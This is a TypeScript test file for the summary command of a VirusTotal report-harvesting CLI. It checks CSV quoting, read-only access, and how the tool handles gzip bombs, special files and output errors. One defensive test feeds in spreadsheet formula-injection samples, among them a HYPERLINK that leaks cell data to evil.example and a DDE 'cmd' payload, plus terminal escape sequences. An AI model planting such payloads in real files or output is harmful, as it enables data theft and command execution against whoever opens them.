import { VtEmulator } from "@vt-harvest/vt-emulator"
import { spawnSync } from "node:child_process"
import * as fs from "node:fs"
import * as path from "node:path"
import * as zlib from "node:zlib"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { csvField, csvLine, row } from "../src/internal/summary.js"
import { bin, hashes, parseCsv, runCli, startCli, tempDir, underTerminal } from "./helpers.js"

const key = "summary-test-key-51c0"
let server: VtEmulator.Server

beforeAll(async () => {
  server = await VtEmulator.start({ apiKeys: [key] })
})
afterAll(() => server.close())

describe("summary", () => {
  it("quotes CSV fields as RFC 4180 says", () => {
    expect(csvField("plain")).toBe("plain")
    expect(csvField("a,b")).toBe("\"a,b\"")
    expect(csvField("say \"hi\"")).toBe("\"say \"\"hi\"\"\"")
    expect(csvField("two\nlines")).toBe("\"two\nlines\"")
    expect(parseCsv(csvLine(["a,b", "x\"y", "line\nbreak", ""]) + "\n")).toEqual([["a,b", "x\"y", "line\nbreak", ""]])
    expect(row("k", new TextEncoder().encode("{not json"))).toBe("not JSON")
  })

  it("reads analyses, also the descriptor scan --no-wait saves before any attribute exists", () => {
    const bytes = (value: unknown) => new TextEncoder().encode(JSON.stringify(value))
    const descriptor = row("abc.b64", bytes({ data: { type: "analysis", id: "YWJj" } }))
    expect(descriptor).toMatchObject({ key: "abc.b64", id: "YWJj", type: "analysis", malicious: "", names: "" })
    const completed = row(
      "u-1",
      bytes({
        data: { type: "analysis", id: "u-1", attributes: { status: "completed", stats: { malicious: 3 }, date: 0 } },
        meta: { url_info: { id: "x", url: "http://example.com/" } }
      })
    )
    expect(completed).toMatchObject({ type: "analysis", malicious: "3", names: "http://example.com/" })
    expect(row("k", bytes({ data: { type: "file", id: "f" } }))).toBe("not a VirusTotal object document")
    expect(row("k", bytes({ data: { type: "analysis", id: 1 } }))).toBe("not a VirusTotal object document")
  })

  it("prints one CSV row per saved report, from plain and gzipped stores alike", async () => {
    const dir = tempDir()
    const known = hashes(4, true, "summary")
    const unknown = hashes(1, false, "summary")
    fs.writeFileSync(path.join(dir, "a.txt"), [known[0], known[1], unknown[0]].join("\n"))
    fs.writeFileSync(path.join(dir, "b.txt"), [known[2], known[3]].join("\n"))
    const env = { VT_API_KEY: key, VT_BASE_URL: server.url }
    expect((await runCli(["files", "a.txt", "-o", "out", "--tier", "premium"], { env, cwd: dir })).code).toBe(0)
    expect((await runCli(["files", "b.txt", "-o", "out", "--tier", "premium", "--gzip"], { env, cwd: dir })).code)
      .toBe(0)
    fs.writeFileSync(path.join(dir, "out", "broken.json"), "{\"data\":")

    const result = await runCli(["summary", "out"], { cwd: dir })
    expect(result.code).toBe(1) // the broken record is named and skipped
    expect(result.stderr).toContain("broken: not JSON, skipped")
    const rows = parseCsv(result.stdout)
    expect(rows[0]).toEqual([
      "key",
      "id",
      "type",
      "malicious",
      "suspicious",
      "undetected",
      "harmless",
      "reputation",
      "last_analysis_date",
      "names"
    ])
    const body = rows.slice(1).sort((a, b) => a[0].localeCompare(b[0]))
    expect(body.map((r) => r[0])).toEqual([...known].sort())
    for (const r of body) {
      const document = JSON.parse(Buffer.from(VtEmulator.fileDocument(r[0])).toString("utf8"))
      const stats = document.data.attributes.last_analysis_stats
      expect(r.slice(1, 7)).toEqual([
        document.data.id,
        "file",
        String(stats.malicious),
        String(stats.suspicious),
        String(stats.undetected),
        String(stats.harmless)
      ])
      expect(r[9]).toBe(document.data.attributes.names.join("; "))
    }
  })

  it("stops quietly when its reader goes away (summary | head)", async () => {
    const dir = tempDir()
    fs.mkdirSync(path.join(dir, "out"))
    const doc = Buffer.from(VtEmulator.fileDocument(hashes(1, true, "pipe")[0]))
    for (let i = 0; i < 300; i++) fs.writeFileSync(path.join(dir, "out", `k${i}.json`), doc)
    const { spawnSync } = await import("node:child_process")
    const result = spawnSync("sh", ["-c", `node ${JSON.stringify(bin)} summary out | head -1`], {
      cwd: dir,
      encoding: "utf8"
    })
    expect(result.stdout).toMatch(/^key,id,type/)
    expect(result.stderr).not.toContain("EPIPE")
  })

  it.skipIf(!fs.existsSync("/dev/full"))(
    "says so and exits 1 when its output cannot be written (a full disk: > /dev/full), as do config show and --help",
    async () => {
      const dir = tempDir()
      fs.mkdirSync(path.join(dir, "out"))
      const doc = Buffer.from(VtEmulator.fileDocument(hashes(1, true, "full")[0]))
      for (let i = 0; i < 3; i++) fs.writeFileSync(path.join(dir, "out", `k${i}.json`), doc)
      const { spawnSync } = await import("node:child_process")
      for (const args of ["summary out", "summary out --format json", "config show", "--help", "--version"]) {
        const result = spawnSync("sh", ["-c", `node ${JSON.stringify(bin)} ${args} > /dev/full`], {
          cwd: dir,
          encoding: "utf8",
          env: { PATH: process.env.PATH ?? "", HOME: dir }
        })
        expect(result.status, args).toBe(1)
        expect(result.stderr, args).toMatch(/^vt-harvest: cannot write standard output: ENOSPC/m)
      }
    }
  )

  it("exits 2 for a store that does not exist", async () => {
    const dir = tempDir()
    const result = await runCli(["summary", "nowhere"], { cwd: dir })
    expect(result.code).toBe(2)
    expect(fs.existsSync(path.join(dir, "nowhere"))).toBe(false)
  })
})

/** A report document as VirusTotal sends it, with the names and stats given. */
const report = (id: string, names: ReadonlyArray<string>, malicious = 1) =>
  JSON.stringify({
    data: {
      type: "file",
      id,
      attributes: {
        names,
        reputation: -12,
        last_analysis_stats: { malicious, suspicious: 0, undetected: 60, harmless: 0 }
      }
    }
  })

/** Every entry under a directory with its type, size and modification time, to see that nothing changed. */
const snapshot = (dir: string): Array<string> =>
  fs.readdirSync(dir, { recursive: true, withFileTypes: false }).map(String).sort().map((name) => {
    const stat = fs.lstatSync(path.join(dir, name))
    return `${name} ${stat.mode} ${stat.size} ${stat.mtimeMs}`
  })

describe("summary at the edges", () => {
  it("defuses cells a spreadsheet would run as a formula: =HYPERLINK(…), +, -, @, tab, CR; numbers stay numbers", async () => {
    const dir = tempDir()
    const out = path.join(dir, "out")
    fs.mkdirSync(out)
    const names = [
      "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"invoice.pdf\")",
      "+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1,2)",
      "\tTAB.exe",
      "\rCR.exe"
    ]
    const id = hashes(1, true, "csv")[0]
    fs.writeFileSync(path.join(out, "one.json"), report(id, [names[0]]))
    names.slice(1).forEach((name, i) => fs.writeFileSync(path.join(out, `n${i}.json`), report(id, [name])))
    const result = await runCli(["summary", "out"], { cwd: dir })
    expect(result.code).toBe(0)
    const rows = parseCsv(result.stdout).slice(1)
    const cells = rows.map((r) => r[9]).sort()
    // A leading carriage return is shown escaped (it could hide a line's start on a terminal): no formula then.
    expect(cells).toEqual(names.map((name) => (name.startsWith("\r") ? `\\r${name.slice(1)}` : `'${name}`)).sort())
    // The reputation (-12) is a number, not a formula: kept as it is.
    expect(new Set(rows.map((r) => r[7]))).toEqual(new Set(["-12"]))
    expect(csvField("=1+1")).toBe("'=1+1")
    expect(csvField("-1")).toBe("-1")
  })

  it("is read-only: creates nothing in the store, works on an immutable directory", async () => {
    const dir = tempDir()
    const out = path.join(dir, "out")
    fs.mkdirSync(out)
    const id = hashes(1, true, "ro")[0]
    fs.writeFileSync(path.join(out, `${id}.json`), report(id, ["a.exe"]))
    fs.writeFileSync(path.join(out, `.${id}.json.tmp-stale`), "{")
    const before = snapshot(out)
    const immutable = spawnSync("chattr", ["+i", out]).status === 0
    try {
      const result = await runCli(["summary", "out"], { cwd: dir })
      expect(result.code).toBe(0)
      expect(parseCsv(result.stdout).slice(1).map((r) => r[0])).toEqual([id])
    } finally {
      if (immutable) spawnSync("chattr", ["-i", out])
    }
    expect(snapshot(out)).toEqual(before)
    expect(fs.readdirSync(dir).sort()).toEqual(["out"])
  })

  it("skips FIFOs, devices, directories and links named like records instead of hanging; lists the rest", async () => {
    const dir = tempDir()
    const out = path.join(dir, "out")
    fs.mkdirSync(out)
    const id = hashes(1, true, "fifo")[0]
    fs.writeFileSync(path.join(out, `${id}.json`), report(id, ["kept.exe"]))
    expect(spawnSync("mkfifo", [path.join(out, "fifo.json")]).status).toBe(0)
    fs.mkdirSync(path.join(out, "directory.json"))
    fs.symlinkSync("/dev/zero", path.join(out, "zero.json"))
    // A character device of its own where the system allows it (root), else the link above stands for one.
    spawnSync("mknod", [path.join(out, "null.json"), "c", "1", "3"])
    const result = await runCli(["summary", "out"], { cwd: dir })
    expect(result.code).toBe(0)
    expect(parseCsv(result.stdout).slice(1).map((r) => r[0])).toEqual([id])
  }, 20_000)

  it("names a record it cannot read and still lists the others (exit 1)", async () => {
    const dir = tempDir()
    fs.chmodSync(dir, 0o755)
    const out = path.join(dir, "out")
    fs.mkdirSync(out)
    const ids = hashes(3, true, "unreadable")
    for (const id of ids) fs.writeFileSync(path.join(out, `${id}.json`), report(id, [`${id}.exe`]))
    fs.chmodSync(path.join(out, `${ids[1]}.json`), 0o000)
    // Permissions bind everyone but root: as root, the CLI runs as nobody.
    const asRoot = process.getuid?.() === 0
    const command = [...(asRoot ? ["runuser", "-u", "nobody", "--"] : []), process.execPath, bin, "summary", "out"]
    const result = spawnSync(command[0], command.slice(1), { cwd: dir, encoding: "utf8", timeout: 20_000 })
    expect(result.status).toBe(1)
    expect(result.stderr).toContain(`warning: ${ids[1]}: cannot read it (`)
    expect(result.stderr).toContain("EACCES")
    expect(parseCsv(result.stdout).slice(1).map((r) => r[0]).sort()).toEqual([ids[0], ids[2]].sort())
  }, 30_000)

  /** A store `<dir>/out` holding one good report, for records of a test's own beside it. */
  const storeWithOneReport = (tag: string) => {
    const dir = tempDir()
    const out = path.join(dir, "out")
    fs.mkdirSync(out)
    const [good] = hashes(1, true, tag)
    fs.writeFileSync(path.join(out, `${good}.json`), report(good, ["good.exe"]))
    return { dir, out, good }
  }

  it("a gzip bomb or an oversized file among the records: each named, never read whole, the others listed", async () => {
    const { dir, good, out } = storeWithOneReport("bounded")
    // 80 MiB of zeros in 80 KiB, and a sparse 80 MiB file: more than any record holds (64 MiB).
    fs.writeFileSync(path.join(out, "bomb.json.gz"), zlib.gzipSync(Buffer.alloc(80 * 1024 * 1024), { level: 9 }))
    fs.closeSync(fs.openSync(path.join(out, "sparse.json"), "w"))
    fs.truncateSync(path.join(out, "sparse.json"), 80 * 1024 * 1024)
    const result = spawnSync(process.execPath, [bin, "summary", "out"], { cwd: dir, encoding: "utf8", timeout: 30_000 })
    expect(result.status, result.stderr).toBe(1)
    expect(result.stderr).toContain("warning: bomb: cannot read it (")
    expect(result.stderr).toContain(`holds more than ${64 * 1024 * 1024} bytes`)
    expect(result.stderr).toContain(`warning: sparse: cannot read it (`)
    expect(result.stderr).toContain(`${80 * 1024 * 1024} bytes, more than a record holds`)
    expect(parseCsv(result.stdout).slice(1).map((r) => r[0])).toEqual([good])
  })

  it("a date beyond what a Date holds, or an id that is no well-formed text: the row is listed, those cells empty", async () => {
    const { dir, good, out } = storeWithOneReport("odd-values")
    fs.writeFileSync(
      path.join(out, "far-future.json"),
      JSON.stringify({ data: { id: "far", type: "file", attributes: { last_analysis_date: 1e13, names: ["far"] } } })
    )
    // JSON's escape of a lone surrogate: valid JSON, no well-formed text, so no URL.
    fs.writeFileSync(path.join(out, "lone.json"), "{\"data\":{\"id\":\"\\ud800\",\"type\":\"file\",\"attributes\":{}}}")
    const json = await runCli(["summary", "out", "--format", "json", "--fields", "key,last_analysis_date,permalink"], {
      cwd: dir
    })
    expect(json.code, json.stderr).toBe(0)
    const rows = (JSON.parse(json.stdout) as Array<Record<string, unknown>>).sort((a, b) =>
      String(a.key).localeCompare(String(b.key))
    )
    expect(rows.map((r) => r.key)).toEqual([good, "far-future", "lone"].sort())
    expect(rows.find((r) => r.key === "far-future")).toMatchObject({ last_analysis_date: null })
    expect(rows.find((r) => r.key === "lone")).toMatchObject({ permalink: null })
    expect(rows.find((r) => r.key === good)?.permalink).toBe(`https://www.virustotal.com/gui/file/${good}`)
    const csv = await runCli(["summary", "out"], { cwd: dir })
    expect(csv.code, csv.stderr).toBe(0)
    expect(parseCsv(csv.stdout).slice(1).map((r) => r[0]).sort()).toEqual([good, "far-future", "lone"].sort())
  })

  it("on a terminal, the table shows control characters in names escaped, never raw (OSC, CSI, C1)", async () => {
    const dir = tempDir()
    const out = path.join(dir, "out")
    fs.mkdirSync(out)
    const id = hashes(1, true, "osc")[0]
    const hostile = ["\u001b]0;pwned\u0007title.exe", "\u001b[31mred\u001b[0m.exe", "\u009b31mc1.exe\u009d0;x\u009c"]
    fs.writeFileSync(path.join(out, `${id}.json`), report(id, hostile))
    const result = await underTerminal(
      `stty cols 250; ${JSON.stringify(process.execPath)} ${JSON.stringify(bin)} summary out`,
      {
        cwd: dir
      }
    )
    expect(result.code).toBe(0)
    expect(result.stdout).toContain(id.slice(0, 20))
    expect(result.stdout).toContain("title.exe")
    expect(result.stdout).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/)
  }, 20_000)

  it("hands a long output whole to a reader that is slow to read, then exits 0", async () => {
    const dir = tempDir()
    const ids = hashes(400, true, "summary-slow-reader")
    fs.writeFileSync(path.join(dir, "in.txt"), ids.join("\n"))
    const env = { VT_API_KEY: key, VT_BASE_URL: server.url }
    const harvest = await runCli(["files", "in.txt", "-o", "out", "--tier", "premium", "--concurrency", "8"], {
      env,
      cwd: dir
    })
    expect(harvest.code).toBe(0)

    const { child, done } = startCli(["summary", "out", "--format", "ndjson"], { cwd: dir })
    child.stdout.pause()
    setTimeout(() => child.stdout.resume(), 500)
    const result = await done
    expect(result.code).toBe(0)
    const rows = result.stdout.trimEnd().split("\n").map((line) => JSON.parse(line) as { key: string })
    expect(result.stdout.length).toBeGreaterThan(64 * 1024) // more than a pipe holds
    expect(new Set(rows.map((r) => r.key))).toEqual(new Set(ids))
  })
})
